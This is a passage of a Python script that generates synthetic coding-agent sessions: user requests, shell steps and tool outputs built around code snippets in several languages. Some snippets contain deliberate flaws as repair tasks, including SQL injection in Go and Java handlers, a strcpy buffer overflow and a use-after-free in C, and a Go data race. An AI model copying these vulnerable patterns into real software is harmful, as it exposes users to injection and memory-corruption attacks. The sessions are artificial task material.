  devtool: isProd ? "source-map" : "eval-cheap-module-source-map",
  module: {
    rules: [
      { test: /\\.jsx?$/, exclude: /node_modules/, use: "babel-loader" },
      { test: /\\.s?css$/, use: [isProd ? MiniCssExtractPlugin.loader : "style-loader", "css-loader", "sass-loader"] },
      { test: /\\.(png|svg|jpg|gif)$/, type: "asset/resource" },
    ],
  },
  resolve: { extensions: [".js", ".jsx"] },
  plugins: [
    new HtmlWebpackPlugin({ template: "./public/index.html", chunks: ["main"] }),
    new HtmlWebpackPlugin({ template: "./public/admin.html", filename: "admin.html", chunks: ["admin"] }),
    isProd && new MiniCssExtractPlugin({ filename: "[name].[contenthash].css" }),
  ].filter(Boolean),
  devServer: { historyApiFallback: true, port: 3000, proxy: { "/api": "http://localhost:8080" } },
};
''')

snip("go_handler", "go", "internal/api/accounts.go", '''
package api

import (
	"database/sql"
	"encoding/json"
	"errors"
	"net/http"
	"strconv"
)

type Account struct {
	ID      int64  `json:"id"`
	Email   string `json:"email"`
	Plan    string `json:"plan"`
	Balance int64  `json:"balance_cents"`
}

type Server struct {
	DB *sql.DB
}

func (s *Server) GetAccount(w http.ResponseWriter, r *http.Request) {
	id, err := strconv.ParseInt(r.PathValue("id"), 10, 64)
	if err != nil {
		http.Error(w, "bad id", http.StatusBadRequest)
		return
	}
	var a Account
	row := s.DB.QueryRowContext(r.Context(), "SELECT id, email, plan, balance_cents FROM accounts WHERE id = $1", id)
	if err := row.Scan(&a.ID, &a.Email, &a.Plan, &a.Balance); err != nil {
		if errors.Is(err, sql.ErrNoRows) {
			http.Error(w, "not found", http.StatusNotFound)
			return
		}
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(a)
}

func (s *Server) UpdatePlan(w http.ResponseWriter, r *http.Request) {
	id, _ := strconv.ParseInt(r.PathValue("id"), 10, 64)
	var body struct {
		Plan string `json:"plan"`
	}
	json.NewDecoder(r.Body).Decode(&body)
	_, err := s.DB.Exec("UPDATE accounts SET plan = '" + body.Plan + "' WHERE id = " + strconv.FormatInt(id, 10))
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.WriteHeader(http.StatusNoContent)
}
''')

snip("go_worker", "go", "internal/crawl/pool.go", '''
package crawl

import (
	"context"
	"fmt"
	"net/http"
	"sync"
	"time"
)

type Result struct {
	URL    string
	Status int
	Err    error
}

func FetchAll(ctx context.Context, urls []string, workers int) []Result {
	jobs := make(chan string)
	var results []Result
	var wg sync.WaitGroup
	client := &http.Client{Timeout: 10 * time.Second}

	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for u := range jobs {
				req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
				resp, err := client.Do(req)
				if err != nil {
					results = append(results, Result{URL: u, Err: err})
					continue
				}
				resp.Body.Close()
				results = append(results, Result{URL: u, Status: resp.StatusCode})
			}
		}()
	}
	for _, u := range urls {
		jobs <- u
	}
	close(jobs)
	wg.Wait()
	fmt.Printf("fetched %d urls\\n", len(results))
	return results
}
''')

snip("go_config", "go", "internal/config/config.go", '''
package config

import (
	"fmt"
	"os"
	"strconv"
	"time"
)

type Config struct {
	Addr            string
	DatabaseURL     string
	MaxConns        int
	ShutdownTimeout time.Duration
	Debug           bool
}

func Load() (*Config, error) {
	c := &Config{
		Addr:            getenv("ADDR", ":8080"),
		DatabaseURL:     os.Getenv("DATABASE_URL"),
		ShutdownTimeout: 15 * time.Second,
	}
	if c.DatabaseURL == "" {
		return nil, fmt.Errorf("DATABASE_URL is required")
	}
	n, err := strconv.Atoi(getenv("MAX_CONNS", "10"))
	if err != nil {
		return nil, fmt.Errorf("MAX_CONNS: %w", err)
	}
	c.MaxConns = n
	if v := os.Getenv("SHUTDOWN_TIMEOUT"); v != "" {
		d, err := time.ParseDuration(v)
		if err != nil {
			return nil, fmt.Errorf("SHUTDOWN_TIMEOUT: %w", err)
		}
		c.ShutdownTimeout = d
	}
	c.Debug = os.Getenv("DEBUG") == "1"
	return c, nil
}

func getenv(key, def string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return def
}
''')

snip("rs_lexer", "rust", "src/lexer.rs", '''
#[derive(Debug, Clone, PartialEq)]
pub enum Token {
    Num(f64),
    Ident(String),
    Plus,
    Minus,
    Star,
    Slash,
    LParen,
    RParen,
    Comma,
}

pub fn tokenize(src: &str) -> Result<Vec<Token>, String> {
    let mut out = Vec::new();
    let chars: Vec<char> = src.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' | '\\t' | '\\n' => i += 1,
            '+' => { out.push(Token::Plus); i += 1 }
            '-' => { out.push(Token::Minus); i += 1 }
            '*' => { out.push(Token::Star); i += 1 }
            '/' => { out.push(Token::Slash); i += 1 }
            '(' => { out.push(Token::LParen); i += 1 }
            ')' => { out.push(Token::RParen); i += 1 }
            ',' => { out.push(Token::Comma); i += 1 }
            '0'..='9' | '.' => {
                let start = i;
                while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '.') {
                    i += 1;
                }
                let s: String = chars[start..i].iter().collect();
                out.push(Token::Num(s.parse().map_err(|e| format!("bad number {s}: {e}"))?));
            }
            c if c.is_alphabetic() || c == '_' => {
                let start = i;
                while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                    i += 1;
                }
                out.push(Token::Ident(chars[start..i].iter().collect()));
            }
            other => return Err(format!("unexpected character {other:?} at {i}")),
        }
    }
    Ok(out)
}
''')

snip("rs_cache", "rust", "src/cache.rs", '''
use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

#[derive(Clone)]
pub struct Cache<V: Clone> {
    inner: Arc<Mutex<HashMap<String, (V, Instant)>>>,
    ttl: Duration,
}

impl<V: Clone> Cache<V> {
    pub fn new(ttl: Duration) -> Self {
        Self { inner: Arc::new(Mutex::new(HashMap::new())), ttl }
    }

    pub fn get(&self, key: &str) -> Option<V> {
        let map = self.inner.lock().unwrap();
        match map.get(key) {
            Some((v, at)) if at.elapsed() < self.ttl => Some(v.clone()),
            _ => None,
        }
    }

    pub fn insert(&self, key: String, value: V) {
        let mut map = self.inner.lock().unwrap();
        map.insert(key, (value, Instant::now()));
    }

    pub fn get_or_insert_with<F: FnOnce() -> V>(&self, key: &str, f: F) -> V {
        if let Some(v) = self.get(key) {
            return v;
        }
        let v = f();
        self.insert(key.to_string(), v.clone());
        v
    }
}
''')

snip("rs_cli", "rust", "src/main.rs", '''
use std::fs;
use std::path::PathBuf;

use clap::Parser;

/// Count lines, words and bytes, like wc, but for many files in parallel
#[derive(Parser, Debug)]
#[command(version, about)]
struct Args {
    /// Files to count
    files: Vec<PathBuf>,
    /// Only print line counts
    #[arg(short, long)]
    lines: bool,
}

fn count(path: &PathBuf) -> (usize, usize, usize) {
    let data = fs::read_to_string(path).unwrap();
    let lines = data.lines().count();
    let words = data.split_whitespace().count();
    (lines, words, data.len())
}

fn main() {
    let args = Args::parse();
    let mut total = (0, 0, 0);
    for f in &args.files {
        let (l, w, b) = count(f);
        total = (total.0 + l, total.1 + w, total.2 + b);
        if args.lines {
            println!("{l:>8} {}", f.display());
        } else {
            println!("{l:>8} {w:>8} {b:>8} {}", f.display());
        }
    }
    println!("{:>8} {:>8} {:>8} total", total.0, total.1, total.2);
}
''')

snip("java_orders", "java", "src/main/java/com/acme/shop/OrderService.java", '''
package com.acme.shop;

import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Optional;

import org.springframework.stereotype.Service;
import org.springframework.transaction.annotation.Transactional;

@Service
public class OrderService {
    private final OrderRepository orders;
    private final InventoryClient inventory;
    private final PaymentGateway payments;

    public OrderService(OrderRepository orders, InventoryClient inventory, PaymentGateway payments) {
        this.orders = orders;
        this.inventory = inventory;
        this.payments = payments;
    }

    @Transactional
    public Order placeOrder(Long customerId, List<OrderLine> lines) {
        BigDecimal total = BigDecimal.ZERO;
        for (OrderLine line : lines) {
            if (!inventory.reserve(line.getSku(), line.getQuantity())) {
                throw new OutOfStockException(line.getSku());
            }
            total = total.add(line.getUnitPrice().multiply(BigDecimal.valueOf(line.getQuantity())));
        }
        Order order = new Order(customerId, lines, total, Instant.now());
        orders.save(order);
        payments.charge(customerId, total);
        order.setStatus(OrderStatus.PAID);
        return orders.save(order);
    }

    public Optional<Order> find(Long id) {
        return orders.findById(id);
    }

    @Transactional
    public void cancel(Long id) {
        Order order = orders.findById(id).orElseThrow();
        if (order.getStatus() == OrderStatus.SHIPPED) {
            throw new IllegalStateException("already shipped");
        }
        for (OrderLine line : order.getLines()) {
            inventory.release(line.getSku(), line.getQuantity());
        }
        payments.refund(order.getCustomerId(), order.getTotal());
        order.setStatus(OrderStatus.CANCELLED);
        orders.save(order);
    }
}
''')

snip("java_jdbc", "java", "src/main/java/com/acme/legacy/CustomerDao.java", '''
package com.acme.legacy;

import java.sql.*;
import java.util.ArrayList;
import java.util.List;

public class CustomerDao {
    private final String url;

    public CustomerDao(String url) {
        this.url = url;
    }

    public List<Customer> findByCity(String city) throws SQLException {
        List<Customer> result = new ArrayList<>();
        Connection conn = DriverManager.getConnection(url);
        Statement st = conn.createStatement();
        ResultSet rs = st.executeQuery("SELECT id, name, email, city FROM customers WHERE city = '" + city + "'");
        while (rs.next()) {
            Customer c = new Customer();
            c.setId(rs.getLong("id"));
            c.setName(rs.getString("name"));
            c.setEmail(rs.getString("email"));
            c.setCity(rs.getString("city"));
            result.add(c);
        }
        return result;
    }

    public void updateEmail(long id, String email) throws SQLException {
        Connection conn = DriverManager.getConnection(url);
        PreparedStatement ps = conn.prepareStatement("UPDATE customers SET email = ? WHERE id = ?");
        ps.setString(1, email);
        ps.setLong(2, id);
        ps.executeUpdate();
        conn.close();
    }
}
''')

snip("java_strutil", "java", "src/main/java/com/acme/util/Slugs.java", '''
package com.acme.util;

import java.text.Normalizer;
import java.util.Locale;
import java.util.regex.Pattern;

public final class Slugs {
    private static final Pattern NON_LATIN = Pattern.compile("[^\\\\w-]");
    private static final Pattern WHITESPACE = Pattern.compile("[\\\\s]");
    private static final Pattern DASHES = Pattern.compile("-{2,}");

    private Slugs() {}

    public static String slugify(String input) {
        if (input == null) {
            return "";
        }
        String nowhitespace = WHITESPACE.matcher(input.trim()).replaceAll("-");
        String normalized = Normalizer.normalize(nowhitespace, Normalizer.Form.NFD);
        String slug = NON_LATIN.matcher(normalized).replaceAll("");
        slug = DASHES.matcher(slug).replaceAll("-");
        return slug.toLowerCase(Locale.ENGLISH);
    }

    public static String truncate(String slug, int max) {
        if (slug.length() <= max) {
            return slug;
        }
        int cut = slug.lastIndexOf('-', max);
        return slug.substring(0, cut > 0 ? cut : max);
    }
}
''')

snip("c_ringbuf", "c", "src/ringbuf.c", '''
#include <stdlib.h>
#include <string.h>
#include "ringbuf.h"

struct ringbuf {
    unsigned char *data;
    size_t cap;
    size_t head;   /* next write */
    size_t tail;   /* next read */
};

ringbuf_t *rb_new(size_t cap)
{
    ringbuf_t *rb = malloc(sizeof *rb);
    rb->data = malloc(cap);
    rb->cap = cap;
    rb->head = rb->tail = 0;
    return rb;
}

size_t rb_used(const ringbuf_t *rb)
{
    return (rb->head - rb->tail) % rb->cap;
}

size_t rb_write(ringbuf_t *rb, const void *src, size_t n)
{
    size_t free_space = rb->cap - rb_used(rb);
    if (n > free_space)
        n = free_space;
    for (size_t i = 0; i < n; i++) {
        rb->data[rb->head] = ((const unsigned char *)src)[i];
        rb->head = (rb->head + 1) % rb->cap;
    }
    return n;
}

size_t rb_read(ringbuf_t *rb, void *dst, size_t n)
{
    size_t used = rb_used(rb);
    if (n > used)
        n = used;
    for (size_t i = 0; i < n; i++) {
        ((unsigned char *)dst)[i] = rb->data[rb->tail];
        rb->tail = (rb->tail + 1) % rb->cap;
    }
    return n;
}

void rb_free(ringbuf_t *rb)
{
    free(rb->data);
    free(rb);
}
''')

snip("c_ini", "c", "src/ini.c", '''
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>

#define MAX_LINE 256

typedef void (*ini_handler)(const char *section, const char *key, const char *value, void *user);

static char *trim(char *s)
{
    char *end;
    while (isspace((unsigned char)*s))
        s++;
    end = s + strlen(s) - 1;
    while (end > s && isspace((unsigned char)*end))
        *end-- = '\\0';
    return s;
}

int ini_parse(const char *path, ini_handler handler, void *user)
{
    FILE *f = fopen(path, "r");
    char line[MAX_LINE];
    char section[64] = "";
    int lineno = 0;

    if (!f)
        return -1;
    while (fgets(line, sizeof line, f)) {
        char *s = trim(line);
        lineno++;
        if (*s == ';' || *s == '#' || *s == '\\0')
            continue;
        if (*s == '[') {
            char *end = strchr(s, ']');
            if (!end)
                return lineno;
            *end = '\\0';
            strcpy(section, s + 1);
            continue;
        }
        char *eq = strchr(s, '=');
        if (!eq)
            return lineno;
        *eq = '\\0';
        handler(section, trim(s), trim(eq + 1), user);
    }
    fclose(f);
    return 0;
}
''')

snip("c_list", "c", "src/list.c", '''
#include <stdlib.h>

typedef struct node {
    int value;
    struct node *next;
} node;

node *push(node *head, int value)
{
    node *n = malloc(sizeof(node));
    n->value = value;
    n->next = head;
    return n;
}

node *reverse(node *head)
{
    node *prev = NULL;
    while (head) {
        node *next = head->next;
        head->next = prev;
        prev = head;
        head = next;
    }
    return prev;
}

void remove_value(node **head, int value)
{
    node *cur = *head, *prev = NULL;
    while (cur) {
        if (cur->value == value) {
            if (prev)
                prev->next = cur->next;
            else
                *head = cur->next;
            free(cur);
        }
        prev = cur;
        cur = cur->next;
    }
}

void free_list(node *head)
{
    while (head) {
        node *next = head->next;
        free(head);
        head = next;
    }
}
''')

snip("cpp_matrix", "cpp", "include/matrix.hpp", '''
#pragma once
#include <cassert>
#include <cstddef>
#include <vector>

template <typename T>
class Matrix {
public:
    Matrix(std::size_t rows, std::size_t cols) : rows_(rows), cols_(cols), data_(rows * cols) {}

    T& operator()(std::size_t r, std::size_t c) { return data_[r * cols_ + c]; }
    const T& operator()(std::size_t r, std::size_t c) const { return data_[r * cols_ + c]; }

    std::size_t rows() const { return rows_; }
    std::size_t cols() const { return cols_; }

    Matrix operator*(const Matrix& other) const {
        assert(cols_ == other.rows_);
        Matrix out(rows_, other.cols_);
        for (std::size_t i = 0; i < rows_; ++i)
            for (std::size_t j = 0; j < other.cols_; ++j)
                for (std::size_t k = 0; k < cols_; ++k)
                    out(i, j) += (*this)(i, k) * other(k, j);
        return out;
    }

    Matrix transpose() const {
        Matrix out(cols_, rows_);
        for (std::size_t i = 0; i < rows_; ++i)
            for (std::size_t j = 0; j < cols_; ++j)
                out(j, i) = (*this)(i, j);
        return out;
    }

private:
    std::size_t rows_, cols_;
    std::vector<T> data_;
};
''')

snip("cpp_threadpool", "cpp", "src/thread_pool.cpp", '''
#include <condition_variable>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <vector>

class ThreadPool {
public:
    explicit ThreadPool(size_t n) {
        for (size_t i = 0; i < n; ++i) {
            workers_.emplace_back([this] {
                for (;;) {
                    std::function<void()> task;
                    {
                        std::unique_lock<std::mutex> lock(mu_);
                        cv_.wait(lock, [this] { return stop_ || !tasks_.empty(); });
                        if (stop_ && tasks_.empty()) return;
                        task = std::move(tasks_.front());
                        tasks_.pop();
                    }
                    task();
                }
            });
        }
    }

    void submit(std::function<void()> f) {
        {
            std::lock_guard<std::mutex> lock(mu_);
            tasks_.push(std::move(f));
        }
        cv_.notify_one();
    }

    ~ThreadPool() {
        stop_ = true;
        cv_.notify_all();
        for (auto& w : workers_) w.join();
    }

private:
    std::vector<std::thread> workers_;
    std::queue<std::function<void()>> tasks_;
    std::mutex mu_;
    std::condition_variable cv_;
    bool stop_ = false;
};
''')

snip("cpp_lru", "cpp", "src/lru_cache.h", '''
#pragma once
#include <list>
#include <optional>
#include <unordered_map>

template <typename K, typename V>
class LruCache {
public:
    explicit LruCache(size_t capacity) : capacity_(capacity) {}

    std::optional<V> get(const K& key) {
        auto it = index_.find(key);
        if (it == index_.end()) return std::nullopt;
        items_.splice(items_.begin(), items_, it->second);
        return it->second->second;
    }

    void put(const K& key, V value) {
        auto it = index_.find(key);
        if (it != index_.end()) {
            it->second->second = std::move(value);
            items_.splice(items_.begin(), items_, it->second);
            return;
        }
        items_.emplace_front(key, std::move(value));
        index_[key] = items_.begin();
        if (items_.size() > capacity_) {
            index_.erase(items_.back().first);
            items_.pop_back();
        }
    }

private:
    size_t capacity_;
    std::list<std::pair<K, V>> items_;
    std::unordered_map<K, typename std::list<std::pair<K, V>>::iterator> index_;
};
''')


# ---------------------------------------------------------------------------------------
# Batch 1: Codex CLI sessions
# ---------------------------------------------------------------------------------------

GIT_LOG_BILLING = """commit 8c1f2e9a7b41d0c3e5f6a7b8c9d0e1f2a3b4c5d6
Author: Dana K <dana@example.com>
Date:   Mon Oct 13 16:02:11 2025 +0200

    billing: round VAT per line instead of per invoice

diff --git a/billing/invoice.py b/billing/invoice.py
index 3b1c2d4..9f8e7a6 100644
--- a/billing/invoice.py
+++ b/billing/invoice.py
@@ -24,7 +24,10 @@ class Invoice:
         return sum(i.qty * i.unit_price for i in self.items)
 
     def vat(self) -> Decimal:
-        return sum(i.qty * i.unit_price * i.vat_rate for i in self.items)
+        return sum(
+            (i.qty * i.unit_price * i.vat_rate).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
+            for i in self.items
+        )
 
commit 2d9e0f1a4b6c8d0e2f4a6b8c0d2e4f6a8b0c2d4e
Author: Tomás R <tomas@example.com>
Date:   Mon Oct 13 11:47:30 2025 +0200

    api: paginate /users with cursor instead of page numbers

diff --git a/api/users.py b/api/users.py
index 11aa22b..33cc44d 100644
--- a/api/users.py
+++ b/api/users.py
@@ -9,9 +9,14 @@ bp = Blueprint("users", __name__, url_prefix="/users")
 @bp.get("/")
 def list_users():
-    page = int(request.args.get("page", 1))
-    q = User.query.order_by(User.created_at.desc())
-    users = q.paginate(page=page, per_page=50)
-    return jsonify([u.to_dict() for u in users.items])
+    cursor = request.args.get("cursor")
+    q = User.query.order_by(User.id.desc())
+    if cursor:
+        q = q.filter(User.id < int(cursor))
+    users = q.limit(51).all()
+    next_cursor = users[49].id if len(users) > 50 else None
+    return jsonify({"items": [u.to_dict() for u in users[:50]], "next": next_cursor})
 
commit 5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b
Author: Dana K <dana@example.com>
Date:   Fri Oct 10 18:20:05 2025 +0200

    ci: cache pip wheels between runs

diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
index 7e8f9a0..1b2c3d4 100644
--- a/.github/workflows/ci.yml
+++ b/.github/workflows/ci.yml
@@ -18,6 +18,11 @@ jobs:
       - uses: actions/setup-python@v5
         with:
           python-version: "3.12"
+      - uses: actions/cache@v4
+        with:
+          path: ~/.cache/pip
+          key: pip-${{ hashFiles('requirements*.txt') }}
+          restore-keys: pip-
       - run: pip install -r requirements.txt -r requirements-dev.txt
       - run: pytest -q
"""

PYTEST_FAIL_DIVIDE = """============================= test session starts ==============================
platform linux -- Python 3.12.6, pytest-8.3.3, pluggy-1.5.0
rootdir: /home/dev/src/calc
collected 9 items

tests/test_calc.py .......FF                                             [100%]

=================================== FAILURES ===================================
____________________________ test_divide_by_zero _______________________________

    def test_divide_by_zero():
>       with pytest.raises(ValueError, match="divisor"):
E       Failed: DID NOT RAISE <class 'ValueError'>

tests/test_calc.py:41: Failed
_________________________ test_add_rejects_strings _____________________________

    def test_add_rejects_strings():
        with pytest.raises(TypeError):
>           add("1", 2)

tests/test_calc.py:47:
_ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _
E       Failed: DID NOT RAISE <class 'TypeError'>

tests/test_calc.py:46: Failed
=========================== short test summary info ============================
FAILED tests/test_calc.py::test_divide_by_zero - Failed: DID NOT RAISE <class 'ValueError'>
FAILED tests/test_calc.py::test_add_rejects_strings - Failed: DID NOT RAISE <class 'TypeError'>
========================= 2 failed, 7 passed in 0.08s ==========================
"""

CALC_PY = """import math


def _num(x):
    return float(x)


def add(a, b):
    return _num(a) + _num(b)


def subtract(a, b):
    return _num(a) - _num(b)


def divide(a, b):
    if b == 0:
        return math.inf
    return _num(a) / _num(b)
"""

add("codex", "refactor", "en", "python",
    "the retry decorator in lib/retry.py sleeps once more after the final failed attempt and then calls fn an extra time outside the loop, so we get times+1 calls. make it do exactly `times` attempts and re-raise the last exception with its traceback",
    rule="R3", repo="ingest",
    steps=[("shell", "sed -n '1,120p' lib/retry.py", S["py_retry"].text, "Let me look at the decorator first."),
           ("shell", "rg -n \"@retry\" -g '*.py'", "ingest/fetch.py:14:@retry(times=5, delay=1.0, exceptions=(requests.RequestException,))\ningest/s3.py:31:@retry()\ningest/s3.py:58:@retry(times=2)\n")])

add("codex", "refactor", "en", "python",
    "Add input validation to calc.py: divide() must raise ValueError('divisor must not be zero') on a zero divisor, and add/subtract/divide must raise TypeError for anything that isn't int or float (bools too). Tests are in tests/test_calc.py, make them pass.",
    rule="R3", repo="calc", cwd="/home/dev/src/calc",
    steps=[("shell", "cat calc.py", CALC_PY),
           ("apply_patch", "*** Begin Patch\n*** Update File: calc.py\n@@\n def divide(a, b):\n-    if b == 0:\n-        return math.inf\n+    if b == 0:\n+        raise ValueError(\"divisor must not be zero\")\n     return _num(a) / _num(b)\n*** End Patch\n", "Exit code: 0\nWall time: 0.1 seconds\nOutput:\nSuccess. Updated the following files:\nM calc.py\n"),
           ("shell", "python -m pytest -q tests/test_calc.py", PYTEST_FAIL_DIVIDE, "Patched divide; running the tests.")])

add("codex", "review", "en", "go",
    "FetchAll in internal/crawl/pool.go sometimes returns 97 results for 100 urls and once it panicked with 'slice bounds out of range'. don't change anything yet, I want to understand why first",
    rule="R3", repo="crawler",
    steps=[("shell", "sed -n '1,200p' internal/crawl/pool.go", S["go_worker"].text, "Reading the pool implementation."),
           ("shell", "go test -race ./internal/crawl/ -run TestFetchAll -count=3", "==================\nWARNING: DATA RACE\nRead at 0x00c0000a4018 by goroutine 9:\n  example.com/crawler/internal/crawl.FetchAll.func1()\n      /home/dev/src/crawler/internal/crawl/pool.go:33 +0x2c4\n\nPrevious write at 0x00c0000a4018 by goroutine 8:\n  example.com/crawler/internal/crawl.FetchAll.func1()\n      /home/dev/src/crawler/internal/crawl/pool.go:37 +0x3f0\n\nGoroutine 9 (running) created at:\n  example.com/crawler/internal/crawl.FetchAll()\n      /home/dev/src/crawler/internal/crawl/pool.go:25 +0x1a4\n==================\n--- FAIL: TestFetchAll (0.41s)\n    testing.go:1398: race detected during execution of test\nFAIL\nFAIL\texample.com/crawler/internal/crawl\t1.212s\n")])

add("codex", "completion", "en", "rust",
    "write unit tests for tokenize() in src/lexer.rs. put them in tests/lexer.rs, cover numbers with decimals, identifiers with underscores, all the operators, and the error for an unexpected char like '$'",
    rule="R4", repo="calc-rs",
    steps=[("shell", "cat src/lexer.rs", S["rs_lexer"].text),
           ("shell", "ls tests/ && sed -n '1,20p' Cargo.toml", "parser.rs\n[package]\nname = \"calc\"\nversion = \"0.3.0\"\nedition = \"2021\"\n\n[lib]\npath = \"src/lib.rs\"\n\n[dependencies]\n")])

add("codex", "refactor", "zh", "go",
    "internal/api/accounts.go 里 UpdatePlan 是直接拼 SQL 的，有注入风险。改成参数化查询（$1 $2），顺便把 json Decode 的错误处理补上，plan 只允许 free/pro/team 三种，其他返回 400",
    rule="R3", repo="billing-api",
    steps=[("shell", "sed -n '1,200p' internal/api/accounts.go", S["go_handler"].text, "先看一下 handler 的实现。")])

add("codex", "planning", "en", "none",
    "We need multi-tenancy. Right now every table assumes a single customer (~40 tables in postgres, Django ORM). Look around and give me the options (schema per tenant, tenant_id column + RLS, db per tenant) with what each would cost us here, and a recommendation. Don't write code yet.",
    rule="R7", repo="shop",
    steps=[("shell", "ls shop/ catalog/ accounts/ && rg -c 'models.Model' -g '*.py'", "shop/:\n__init__.py  admin.py  apps.py  migrations  models.py  views.py\n\ncatalog/:\n__init__.py  models.py  search.py  views.py\n\naccounts/:\n__init__.py  backends.py  models.py\n\nshop/models.py:2\ncatalog/models.py:9\naccounts/models.py:4\nreports/models.py:11\nintegrations/models.py:14\n"),
           ("shell", "rg -n 'objects\\.raw|cursor\\(\\)' -g '*.py' | head -40", "reports/queries.py:18:    with connection.cursor() as cur:\nreports/queries.py:61:    with connection.cursor() as cur:\nreports/queries.py:104:    rows = Sale.objects.raw(SALES_BY_REGION_SQL, [start, end])\nintegrations/erp/sync.py:77:    with connection.cursor() as cur:\n")])

add("codex", "review", "ja", "python",
    "app/ratelimit.py の try_acquire って acquire と同時に呼ばれたら壊れますか？lock を取ってないのが気になってます。修正はまだいらないので、何が起きうるか説明してください",
    rule="R6", repo="gateway",
    steps=[("shell", "cat app/ratelimit.py", S["py_ratelimit"].text)])

add("codex", "completion", "en", "python",
    "add scripts/dedupe_csv.py: read a CSV on stdin, write it to stdout keeping only the first row for each email (case-insensitive, strip whitespace), keep the header, use only the stdlib",
    rule="R7", repo="crm-tools",
    steps=[("shell", "ls scripts && head -5 scripts/merge_exports.py", "export_contacts.py\nmerge_exports.py\nREADME.md\n#!/usr/bin/env python3\n\"\"\"Merge the monthly CRM exports into one CSV.\"\"\"\nimport csv\nimport sys\n")])

add("codex", "refactor", "ru", "typescript",
    "Переделай useDebouncedSearch так, чтобы предыдущий запрос отменялся через AbortController, когда query меняется, и чтобы таймер чистился в cleanup эффекта. Ещё delay забыли в зависимостях.",
    rule="R3", repo="storefront",
    steps=[("shell", "cat src/hooks/useDebouncedSearch.ts && sed -n '1,40p' src/api/products.ts", S["ts_debounce_hook"].text + "\nimport { http } from \"./http\";\n\nexport type Product = { id: string; name: string; priceCents: number };\n\nexport async function searchProducts(q: string): Promise<{ items: Product[] }> {\n  return http.get(`/products/search?q=${encodeURIComponent(q)}`);\n}\n")])

add("codex", "review", "en", "rust",
    "cargo test passes on my mac but fails in CI (ubuntu). log below. what's the actual cause? I don't need a patch, just tell me what's going on\n\n```\nrunning 14 tests\ntest lexer::tests::numbers ... ok\ntest config::tests::loads_from_home ... FAILED\ntest config::tests::defaults ... ok\n\nfailures:\n\n---- config::tests::loads_from_home stdout ----\nthread 'config::tests::loads_from_home' panicked at src/config.rs:88:61:\ncalled `Result::unwrap()` on an `Err` value: Os { code: 2, kind: NotFound, message: \"No such file or directory\" }\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n\nfailures:\n    config::tests::loads_from_home\n\ntest result: FAILED. 13 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.02s\n```",
    rule="R5", repo="calc-rs",
    steps=[("shell", "sed -n '60,110p' src/config.rs", "pub fn config_path() -> PathBuf {\n    let home = std::env::var(\"HOME\").unwrap_or_else(|_| \".\".into());\n    PathBuf::from(home).join(\"Library/Application Support/calc/config.toml\")\n}\n\n#[cfg(test)]\nmod tests {\n    use super::*;\n\n    #[test]\n    fn defaults() {\n        let c = Config::default();\n        assert_eq!(c.precision, 10);\n    }\n\n    #[test]\n    fn loads_from_home() {\n        let c = Config::load(&config_path()).unwrap();\n        assert!(c.precision > 0);\n    }\n}\n")])

add("codex", "planning", "de", "javascript",
    "Bevor du irgendwas anfasst: mach mir erst einen Plan, wie wir von Webpack auf Vite umsteigen. Wir haben zwei Entry-Points (main und admin), SCSS, und einen Proxy auf /api. Ich will wissen, in welcher Reihenfolge wir das machen, was kaputtgehen kann und wie wir das in CI absichern. Erst Plan, dann reden wir.",
    rule="R2", repo="webshop-frontend",
    steps=[("shell", "cat webpack.config.js package.json | head -80", S["js_webpack"].text + "{\n  \"name\": \"webshop-frontend\",\n  \"scripts\": {\n    \"start\": \"webpack serve\",\n    \"build\": \"NODE_ENV=production webpack\",\n    \"test\": \"jest\"\n  },\n  \"devDependencies\": {\n    \"@babel/core\": \"^7.24.0\",\n    \"babel-loader\": \"^9.1.3\",\n    \"css-loader\": \"^6.10.0\",\n    \"html-webpack-plugin\": \"^5.6.0\",\n    \"jest\": \"^29.7.0\",\n    \"mini-css-extract-plugin\": \"^2.8.1\",\n    \"sass\": \"^1.72.0\",\n    \"sass-loader\": \"^14.1.1\",\n    \"style-loader\": \"^3.3.4\",\n    \"webpack\": \"^5.90.3\",\n    \"webpack-cli\": \"^5.1.4\",\n    \"webpack-dev-server\": \"^5.0.2\"\n  }\n}\n")])

add("codex", "refactor", "en", "java",
    "CustomerDao leaks connections (findByCity never closes anything) and findByCity is injectable. switch both methods to try-with-resources + PreparedStatement, keep the public signatures",
    rule="R3", repo="legacy-crm",
    steps=[("shell", "cat src/main/java/com/acme/legacy/CustomerDao.java", S["java_jdbc"].text)])

add("codex", "completion", "es", "sql",
    "crea la migración db/migrations/0042_audit_log.sql: tabla audit_log con id bigserial, actor_id (FK a users, nullable), action text not null, entity text, entity_id bigint, payload jsonb, created_at timestamptz default now(); índice por (entity, entity_id) y otro por created_at. Sigue el estilo de las otras migraciones",
    rule="R7", repo="backoffice",
    steps=[("shell", "ls db/migrations | tail -3 && cat db/migrations/0041_invoices_due_date.sql", "0039_add_coupons.sql\n0040_orders_currency.sql\n0041_invoices_due_date.sql\n-- 0041: invoices get a due date (default: issue date + 30 days)\nBEGIN;\n\nALTER TABLE invoices\n    ADD COLUMN due_date date;\n\nUPDATE invoices SET due_date = issued_at::date + 30 WHERE due_date IS NULL;\n\nALTER TABLE invoices\n    ALTER COLUMN due_date SET NOT NULL;\n\nCREATE INDEX invoices_due_date_idx ON invoices (due_date);\n\nCOMMIT;\n")])

add("codex", "review", "en", "python",
